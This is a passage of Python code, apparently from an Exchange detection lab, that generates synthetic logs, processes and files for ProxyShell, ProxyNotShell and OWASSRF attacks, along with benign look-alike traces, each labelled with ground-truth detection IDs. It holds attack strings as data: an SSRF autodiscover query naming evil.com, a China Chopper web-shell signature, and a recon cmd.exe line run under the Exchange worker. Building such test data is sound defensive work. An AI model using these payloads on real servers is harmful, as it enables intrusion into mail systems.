            Truth("webshell.chopper", CVE_EXPORT, match="<%eval(Request.Item["),
            Truth("webshell.known_path", CVE_EXPORT),
        ),
    ),
    File(
        after("tq", minutes=6),
        APPHOST_CONFIG,
        lambda run, t: application_host_config(run.plan.server, _COM_VDIR),
        truth=(Truth("proxyshell.iis_vdir_config", CVE_EXPORT, match='physicalPath="C:\\ProgramData\\COM"'),),
        replace=True,
    ),
)


def proxyshell(plan: Plan, t0: datetime) -> None:
    """ProxyShell: autodiscover path confusion (PS-1), X-Rps-CAT to /powershell (PS-2), mailbox export (PS-3)."""
    names = {**server_names(plan.server), "admin_sid": _admin_sid(plan)}
    run = ScenarioRun(plan, "attack", "proxyshell", plan.rnd("proxyshell"), {"t0": t0}, names)
    plant(run, PROXYSHELL)


# --- ProxyNotShell -----------------------------------------------------------------------------------

PN_IP = "203.0.113.66"
PN_UA = "python-requests/2.28.1"
_PN_QUERY = (
    "@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=XYZ&FooProtocol=Powershell"
)
# OWASSRF (detections.md PN-2): /owa/<mailbox>%40<domain>/powershell.
_OWASSRF_STEM = "/owa/mastermailbox%40outlook.com/powershell"


def _pn_autodiscover(offset: int) -> tuple[Step, ...]:
    """An authenticated autodiscover request reaching PowerShell (PN-1): front-end IIS and HttpProxy."""
    stem = "/autodiscover/autodiscover.json"
    truth = (Truth("proxynotshell.autodiscover_powershell", CVE_PNS_SSRF, match="FooProtocol=Powershell"),)
    return (
        IisLine(
            after("t0", seconds=offset),
            method="POST",
            stem=stem,
            query=_PN_QUERY,
            user="{user}",
            client=PN_IP,
            agent=PN_UA,
            status="200",
            time_taken=RandInt(30, 900),
            truth=truth,
        ),
        ProxyLine(
            after("t0", seconds=offset),
            "Autodiscover",
            values={
                "UrlStem": stem,
                "UrlQuery": "?" + _PN_QUERY,
                "Method": "POST",
                "HttpStatus": "200",
                "BackEndStatus": "200",
                "AuthenticationType": "Basic",
                "IsAuthenticated": "true",
                "AuthenticatedUser": "{user}",
                "UserAgent": PN_UA,
                "ClientIpAddress": PN_IP,
                "AnchorMailbox": "Sid~{victim_sid}",
                "RoutingHint": "WindowsIdentity",
            },
            truth=truth,
        ),
    )


def _owassrf(k: int) -> tuple[Step, ...]:
    """The ``k``-th OWASSRF call: front-end IIS, HttpProxy (Owa), and the back end's /powershell."""
    at = after("to", seconds=4 * k)
    return (
        IisLine(
            at,
            method="POST",
            stem=_OWASSRF_STEM,
            query=CAFE_QUERY,
            user="{user}",
            client=PN_IP,
            agent=CHROME105,
            status="200",
            time_taken=RandInt(100, 2000),
            truth=(Truth("proxynotshell.owassrf", CVE_OWASSRF, match=_OWASSRF_STEM),),
        ),
        ProxyLine(
            at,
            "Owa",
            values={
                "UrlStem": "/owa/mastermailbox@outlook.com/powershell",
                "Method": "POST",
                "HttpStatus": "200",
                "BackEndStatus": "200",
                "AuthenticationType": "Basic",
                "IsAuthenticated": "true",
                "AuthenticatedUser": "{user}",
                "UserAgent": CHROME105,
                "ClientIpAddress": PN_IP,
                "AnchorMailbox": "Sid~{victim_sid}",
                "RoutingHint": "WindowsIdentity",
            },
            truth=(
                Truth(
                    "proxynotshell.owassrf", CVE_OWASSRF, match="/owa/mastermailbox@outlook.com/powershell"
                ),
            ),
        ),
        IisLine(
            after("to", seconds=4 * k, milliseconds=60),
            method="POST",
            stem="/powershell",
            query="",
            user="{user}",
            client="{address}",
            agent=CHROME105,
            status="200",
            time_taken=RandInt(2000, 2999),
            truth=(Truth("proxynotshell.owassrf_backend", CVE_OWASSRF, match="POST /powershell - 444 "),),
            back_end=True,
        ),
    )


PROXYNOTSHELL: tuple[Step, ...] = (
    *(step for offset in (0, 2, 3) for step in _pn_autodiscover(offset)),
    Mark("to", after("t0", minutes=12)),
    *(step for k in range(3) for step in _owassrf(k)),
    # The PowerShell-proxy row of the OWASSRF call (detections.md PN-2; where Exchange writes these rows
    # is not confirmed, we put them in the HttpProxy PowerShell folder).
    ProxyLine(
        after("to", seconds=9),
        "PowerShell",
        values={
            "UrlStem": "/powershell",
            "Method": "POST",
            "HttpStatus": "200",
            "BackEndStatus": "200",
            "AuthenticationType": "Kerberos",
            "IsAuthenticated": "true",
            "AuthenticatedUser": "{user}",
            "UserAgent": CHROME105,
            "ClientIpAddress": "{address}",
            "RoutingHint": "WindowsIdentity-NoDatabase",
            "GenericInfo": traffic.generic_info() + traffic.RPS_POST_INFO,
        },
        truth=(
            Truth(
                "proxynotshell.rps_proxy_kerberos",
                CVE_PNS_RCE,
                match="S:ServiceCommonMetadata.HttpMethod=POST",
            ),
        ),
    ),
    Process(
        after("to", seconds=20),
        image=CMD,
        command='cmd.exe /c cd /d "c:\\windows\\system32\\inetsrv"&ipconfig&echo [S]&cd&echo [E]',
        parent_image=W3WP,
        parent_command=w3wp_cmdline("MSExchangePowerShellAppPool"),
        truth=(
            Truth("postexploit.chopper_commands", CVE_PNS_RCE, match="&ipconfig&echo"),
            Truth("postexploit.worker_child_process", CVE_PNS_RCE, match="MSExchangePowerShellAppPool"),
        ),
    ),
)


def proxynotshell(plan: Plan, t0: datetime) -> None:
    """ProxyNotShell autodiscover to PowerShell (PN-1), OWASSRF (PN-2) and the command it ran (PN-3)."""
    users = traffic.users(plan.seed, plan.server.domain)
    victim = users[len(users) // 2]
    names = {
        **server_names(plan.server),
        "user": f"{plan.server.netbios}\\{victim.sam}",
        "victim_sid": victim.sid,
    }
    run = ScenarioRun(plan, "attack", "proxynotshell", plan.rnd("proxynotshell"), {"t0": t0}, names)
    plant(run, PROXYNOTSHELL)


# --- look-alikes -------------------------------------------------------------------------------------
#
# Benign traces that fooled earlier tools, each with the rule it resembles and the ceiling a correct
# hunt may give it (``expect``). Each sits at a fraction of the package's window (named time "t").


@dataclass(frozen=True)
class Lookalike:
    """A group of look-alike steps of one wave, placed at ``fraction`` of the window."""

    wave: str
    fraction: float
    steps: tuple[Step, ...]


def _lookalike(
    detection: str, cve: str | None, expect: str, match: str | None = None, note: str | None = None
) -> Truth:
    return Truth(detection, cve, match=match, expect=expect, note=note)


_EXPORTTOOL = "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application"
_ZGRAB_UA = "Mozilla/5.0 zgrab/0.x"
_NESSUS_UA = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)"
_CSC = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"

# 1. Microsoft's nmap probe (log_formats.md 2.6 item 1).
LA_NMAP = Lookalike(
    "proxylogon",
    0.11,
    (
        ProxyLine(
            after("t"),
            "Owa",
            values={
                "UrlStem": "/owa/auth/x.js",
                "Method": "GET",
                "HttpStatus": "500",
                "BackEndStatus": "500",
                "AuthenticationType": "FBA",
                "IsAuthenticated": "false",
                "UserAgent": NMAP_UA,
                "ClientIpAddress": "192.0.2.15",
                "AnchorMailbox": "ServerInfo~localhost/ecp/default.flt?",
                "TargetServer": "localhost",
                "TargetServerVersion": "0.00.0003.000",
                "RoutingType": "CrossRegion",
                "RoutingHint": "X-AnonResource-Backend-Cookie",
                "GenericInfo": ANON_INFO.replace("ProxyToDownLevel=False", "ProxyToDownLevel=True"),
            },
            truth=(
                _lookalike(
                    "proxylogon.ssrf_probe",
                    CVE_PROXYLOGON,
                    "review",
                    match="ServerInfo~localhost/ecp/default.flt?",
                    note="nmap probe footprint",
                ),
            ),
        ),
        IisLine(
            after("t"),
            method="GET",
            stem="/owa/auth/x.js",
            query=CAFE_QUERY,
            user="",
            client="192.0.2.15",
            agent=NMAP_UA,
            status="500",
            time_taken="31",
            truth=(
                _lookalike(
                    "proxylogon.iis_static_post",
                    CVE_PROXYLOGON,
                    "none",
                    match="GET /owa/auth/x.js",
                    note="GET answered 500: the nmap probe",
                ),
            ),
        ),
    ),
)

# 2. zgrab fetching the exporttool manifest (log_formats.md 2.6 item 3).
LA_ZGRAB = Lookalike(
    "proxylogon",
    0.23,
    (
        ProxyLine(
            after("t"),
            "Ecp",
            values={
                "UrlStem": _EXPORTTOOL,
                "Method": "GET",
                "HttpStatus": "200",
                "BackEndStatus": "200",
                "AuthenticationType": "FBA",
                "IsAuthenticated": "false",
                "UserAgent": _ZGRAB_UA,
                "ClientIpAddress": "192.0.2.44",
                "AnchorMailbox": "ServerVersion~Version 15.0 (Build 0.0)",
                "RoutingType": "IntraForest",
                "RoutingHint": "EDiscoveryExportTool-ServerVersion",
                "ResponseBytes": "10112",
                "GenericInfo": ANON_INFO,
            },
            truth=(
                _lookalike(
                    "proxylogon.ssrf_progressed",
                    CVE_PROXYLOGON,
                    "none",
                    match="exporttool",
                    note="version fingerprinting by a scanner",
                ),
            ),
        ),
        IisLine(
            after("t"),
            method="GET",
            stem=_EXPORTTOOL,
            query="&CorrelationID=<empty>;&cafeReqId={guid};",
            user="",
            client="192.0.2.44",
            agent=_ZGRAB_UA,
            status="200",
            time_taken="15",
            truth=(_lookalike("proxylogon.iis_static_post", CVE_PROXYLOGON, "none", match="exporttool"),),
        ),
    ),
)

# 3. Nessus ProxyShell checks (detections.md PS-1 false positives). The second request's tokens are
# drawn before the first line is written.
_NESSUS_TRUTH = (
    _lookalike(
        "proxyshell.autodiscover_success",
        CVE_PROXYSHELL,
        "none",
        match="Email=autodiscover/autodiscover.json%3F@test.com",
        note="Nessus probe",
    ),
)
LA_NESSUS = Lookalike(
    "proxyshell",
    0.31,
    (
        Draw("nessus_client", lambda rnd: f"{rnd.getrandbits(128):032X}"),
        Draw("nessus_request", traffic.guid),
        IisLine(
            after("t"),
            method="GET",
            stem="/autodiscover/autodiscover.json",
            query="@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com",
            user="",
            client="192.0.2.91",
            agent=_NESSUS_UA,
            status="302",
            time_taken="9",
            truth=_NESSUS_TRUTH,
        ),
        IisLine(
            after("t", seconds=1),
            method="GET",
            stem="/owa/",
            query="&Email=autodiscover/autodiscover.json%3F@test.com&ClientId={nessus_client}"
            "&CorrelationID=<empty>;&cafeReqId={nessus_request};&encoding=;",
            user="",
            client="192.0.2.91",
            agent=_NESSUS_UA,
            status="302",
            time_taken="9",
            truth=_NESSUS_TRUTH,
        ),
    ),
)


def _catalog_zip(name: str) -> Callable[[ScenarioRun, datetime], bytes]:
    """A builder of a small archive holding one catalog file ``name``."""
    return lambda run, t: small_zip({name: b"<catalog/>\r\n"}, t)


# 4. Antivirus and backup archives under ProgramData (detections.md PE-2).
LA_ARCHIVES = Lookalike(
    "proxylogon",
    0.05,
    tuple(
        File(
            after("t"),
            rel,
            _catalog_zip(rel.rsplit("/", 1)[1].replace(".zip", ".xml")),
            truth=(
                _lookalike(
                    "postexploit.programdata_archive", None, "review", note="antivirus/backup archive"
                ),
            ),
        )
        for rel in (
            "ProgramData/McAfee/Agent/data/Catalog_update.zip",
            "ProgramData/AppRecovery/Logs/AppRecovery_logs.zip",
        )
    ),
)

# 5. A legitimate Set-OabVirtualDirectory (ECP log and management event).
LA_OAB_URL = Lookalike(
    "proxylogon",
    0.42,
    (
        Draw("ecp_canary", lambda rnd: f"{rnd.getrandbits(160):040x}"),
        EcpLine(
            after("t"),
            # Server names hold no quote for ps_quote to double (letters, digits and '-' only).
            cmd=ecp_cmd(
                "Set-OabVirtualDirectory",
                [
                    ("ExternalUrl", ps_quote("https://{url_host}/OAB")),
                    ("Identity", ps_quote("{host}\\OAB (Default Web Site)")),
                ],
            ),
            url="/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={ecp_canary}&schema=OABVirtualDirectory",
            sid="{exadmin_sid}",
            truth=(
                _lookalike(
                    "proxylogon.ecp_set_vdir_script",
                    CVE_ECP_WRITE,
                    "none",
                    match="Set-OabVirtualDirectory.ExternalUrl=''https://",
                ),
                _lookalike(
                    "proxylogon.ecp_externalurl_change",
                    CVE_ECP_WRITE,
                    "review",
                    match="Set-OabVirtualDirectory.ExternalUrl=''https://",
                ),
            ),
        ),
        Cmdlet(
            after("t", milliseconds=350),
            "Set-OabVirtualDirectory",
            params='-Identity "{host}\\OAB (Default Web Site)" -ExternalUrl "https://{url_host}/OAB"',
            user="exadmin",
            sid="{exadmin_sid}",
            truth=(_lookalike("proxylogon.oabvdir_cmdlet", CVE_ECP_WRITE, "none", match="-ExternalUrl"),),
        ),
    ),
)

# 6. OAB downloads that failed into the right temp folder (detections.md PL-5).
LA_OAB_TEMP = Lookalike(
    "proxylogon",
    0.52,
    (
        Draw("oab_temp_file", lambda rnd: f"{traffic.guid(rnd)}\\oab-data-{rnd.randint(100, 200)}.lzx"),
        OabgenLine(
            after("t"),
            f"Download failed and temporary file '{WIN_INSTALL}ClientAccess\\OAB\\Temp\\{{oab_temp_file}}' needs to be removed",
            level="Warning",
            truth=(
                _lookalike(
                    "proxylogon.oab_file_write", CVE_OAB_WRITE, "none", match="ClientAccess\\OAB\\Temp"
                ),
            ),
        ),
    ),
)

# 7. An admin's mailbox export to a file share, and the role it needs (detections.md PS-3).
LA_EXPORT = Lookalike(
    "proxyshell",
    0.61,
    (
        Cmdlet(
            after("t"),
            "New-ManagementRoleAssignment",
            params='-Name "PST export helpdesk" -Role "Mailbox Import Export" -User "exadmin"',
            user="exadmin",
            sid="{exadmin_sid}",
            truth=(
                _lookalike(
                    "proxyshell.export_role_assignment", CVE_EXPORT, "review", match="Mailbox Import Export"
                ),
            ),
        ),
        Cmdlet(
            after("t", minutes=4),
            "New-MailboxExportRequest",
            params='-Mailbox "{export_upn}" -FilePath "\\\\FS01\\PSTExport$\\{export_sam}.pst"',
            user="exadmin",
            sid="{exadmin_sid}",
            truth=(
                _lookalike(
                    "proxyshell.mailbox_export",
                    CVE_EXPORT,
                    "review",
                    match="{export_sam}.pst",
                    note="UNC .pst export: what the cmdlet is for",
                ),
            ),
        ),
    ),
)

# 11. An admin's maintenance script loading the Exchange snap-in (detections.md PE-6 context).
LA_SNAPIN = Lookalike(
    "proxylogon",
    0.64,
    (
        ScriptBlock(
            after("t"),
            "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn\r\n"
            "Get-MailboxDatabase | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object -First 20",
            truth=(
                _lookalike(
                    "postexploit.exchange_snapin",
                    None,
                    "review",
                    match="Add-PSSnapin",
                    note="admin report script",
                ),
            ),
            path="C:\\Scripts\\Report-MailboxSizes.ps1",
        ),
    ),
)


def _shell_probe(k: int, name: str) -> tuple[Step, ...]:
    """A probe for a published shell name, two seconds after the previous one: IIS, then HttpProxy."""
    truth = (
        _lookalike(
            "webshell.access",
            None,
            "none",
            match=f"/owa/auth/{name}",
            note="probe for a shell that is not there",
        ),
    )
    return (
        IisLine(
            after("t", seconds=2 * k),
            method="GET",
            stem=f"/owa/auth/{name}",
            query=CAFE_QUERY,
            user="",
            client="192.0.2.201",
            agent=CHROME89,
            status="302",
            time_taken="12",
            truth=truth,
        ),
        ProxyLine(
            after("t", seconds=2 * k),
            "Owa",
            values={
                "UrlStem": f"/owa/auth/{name}",
                "Method": "GET",
                "HttpStatus": "302",
                "BackEndStatus": "302",
                "AuthenticationType": "",
                "IsAuthenticated": "false",
                "UserAgent": CHROME89,
                "ClientIpAddress": "192.0.2.201",
                "GenericInfo": ANON_INFO,
            },
            truth=truth,
        ),
    )


# 10. Others probing for web shells planted by someone else, answered 302 (log_formats.md 2.6 item 5).
LA_SHELL_PROBES = Lookalike(
    "proxylogon",
    0.83,
    tuple(
        step
        for k, name in enumerate(("OutlookEN.aspx", "errorFS.aspx", "getpp.aspx", "Err0r.aspx"))
        for step in _shell_probe(k, name)
    ),
)

# 9. Routine children of Exchange worker processes (detections.md PE-3, PL-4 exclusions): the ASP.NET
# compiler under w3wp, and Windows Error Reporting under UMWorkerProcess.
LA_CSC = Lookalike(
    "proxylogon",
    0.33,
    (
        Process(
            after("t"),
            image=_CSC,
            command=f'"{_CSC}" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\0c1b7ba9\\d7a8b2f0\\oqyyf3uz.cmdline"',
            parent_image=W3WP,
            parent_command=_OWA_POOL,
            truth=(
                _lookalike(
                    "postexploit.worker_child_process",
                    None,
                    "none",
                    match="csc.exe",
                    note="ASP.NET compiling a page",
                ),
            ),
        ),
    ),
)
LA_WERFAULT = Lookalike(
    "proxylogon",
    0.47,
    (
        Process(
            after("t"),
            image="C:\\Windows\\System32\\WerFault.exe",
            command="C:\\Windows\\system32\\WerFault.exe -u -p 7248 -s 1040",
            parent_image=WIN_INSTALL + "Bin\\UMWorkerProcess.exe",
            parent_command=f'"{WIN_INSTALL}Bin\\UMWorkerProcess.exe" -pipe 7248 -log 0',
            truth=(
                _lookalike("proxylogon.um_child_process", CVE_UM, "none", match="WerFault.exe"),
                _lookalike("postexploit.worker_child_process", None, "none", match="WerFault.exe"),
            ),
        ),
    ),
)

# 8. Legitimate remote PowerShell reaching the back end (detections.md PN-2 false positives).
LA_REMOTE_POWERSHELL = Lookalike(
    "proxynotshell",
    0.72,
    (
        IisLine(
            after("t"),
            method="POST",
            stem="/powershell",
            query="serializationLevel=Full;ExchClientVer={version_short};clientApplication=ManagementShell;"
            "TargetServer=;PSVersion=5.1.14393.3866",
            user="{netbios}\\exadmin",
            client="{address}",
            agent="Microsoft WinRM Client",
            status="200",
            time_taken="2312",
            truth=(
                _lookalike(
                    "proxynotshell.owassrf_backend", CVE_OWASSRF, "none", match="Microsoft+WinRM+Client"
                ),
            ),
            back_end=True,
        ),
    ),
)

# In the order they are planted (one random stream runs through them all).
LOOKALIKES = (
    LA_NMAP,
    LA_ZGRAB,
    LA_NESSUS,
    LA_ARCHIVES,
    LA_OAB_URL,
    LA_OAB_TEMP,
    LA_EXPORT,
    LA_SNAPIN,
    LA_SHELL_PROBES,
    LA_CSC,
    LA_WERFAULT,
    LA_REMOTE_POWERSHELL,
)


def lookalikes(plan: Plan) -> None:
    """Benign traces that fooled earlier tools, each with the rule it resembles and the ceiling it allows."""
    s = plan.server
    users = traffic.users(plan.seed, s.domain)
    exadmin, exporter = users[0], users[7]
    names = {
        **server_names(s),
        "exadmin_sid": exadmin.sid,
        "export_upn": exporter.upn,
        "export_sam": exporter.sam,
    }
    run = ScenarioRun(plan, "lookalike", "proxylogon", plan.rnd("lookalikes"), {}, names)
    span = plan.end - plan.start
    for group in LOOKALIKES:
        t = plan.start + span * group.fraction
        run.times["t"] = t.replace(microsecond=(t.microsecond // 1000) * 1000)
        run.wave = group.wave
        plant(run, group.steps)


def standard_web_files(plan: Plan) -> None:
    """Files of a standard install in the web folders (placeholders, no code), some of them look-alikes."""
    s = plan.server
    t = plan.start - timedelta(days=40)
    page = b'<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\r\n<!-- exwatch lab placeholder for a file of a standard install -->\r\n'
    for name in (
        "logon.aspx",
        "logoff.aspx",
        "errorFE.aspx",
        "expiredpassword.aspx",
        "frowny.aspx",
        "signout.aspx",
    ):
        plan.files.append(FilePlant(f"{OWA_AUTH}/{name}", page, t, []))
    plan.files.append(FilePlant(APPHOST_CONFIG, application_host_config(s), t, []))
    plan.files.append(
        FilePlant(
            f"{OWA_AUTH}/Current/themes/resources/logon.css", b"/* exwatch lab placeholder */\r\n", t, []
        )
    )
    plan.files.append(
        FilePlant(
            f"{OWA_AUTH}/{s.version_short}/themes/resources/logon.css",
            b"/* exwatch lab placeholder */\r\n",
            t,
            [],
        )
    )
    plan.files.append(
        FilePlant(
            f"{OAB_FE}/web.config", b'<?xml version="1.0" encoding="utf-8"?>\r\n<configuration/>\r\n', t, []
        )
    )
    plan.files.append(FilePlant(f"{ASPNET_CLIENT}/system_web/4_0_30319/.placeholder", b"", t, []))
    plan.files.append(
        FilePlant("ProgramData/Microsoft/Windows/Start Menu/desktop.ini", b"[.ShellClassInfo]\r\n", t, [])
    )


def standard_lookalike_files(plan: Plan) -> None:
    """Standard files whose names resemble published web-shell names."""
    t = plan.start - timedelta(days=40)
    page = b'<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy" %>\r\n<!-- exwatch lab placeholder for a file of a standard install -->\r\n'
    plan.files.append(
        FilePlant(
            f"{OWA_AUTH}/RedirSuiteServiceProxy.aspx",
            page,
            t,
            [
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "webshell.known_path",
                    t,
                    expect="none",
                    note="standard file; the shell was RedirSuiteServerProxy.aspx",
                ),
                item("lookalike", "proxylogon", None, "webshell.unexpected_script", t, expect="none"),
            ],
        )
    )
    plan.files.append(
        FilePlant(
            f"{ECP_AUTH}/TimeoutLogoff.aspx",
            b'<%@ Page Language="C#" AutoEventWireup="true" %>\r\n<!-- exwatch lab placeholder for a file of a standard install -->\r\n',
            t,
            [
                item(
                    "lookalike",
                    "proxylogon",
                    None,
                    "webshell.unexpected_script",
                    t,
                    expect="none",
                    note="the one standard file in ecp\\auth",
                )
            ],
        )
    )


def ensure_utc(t: datetime) -> datetime:
    if t.tzinfo is None:
        return t.replace(tzinfo=UTC)
    return t.astimezone(UTC)
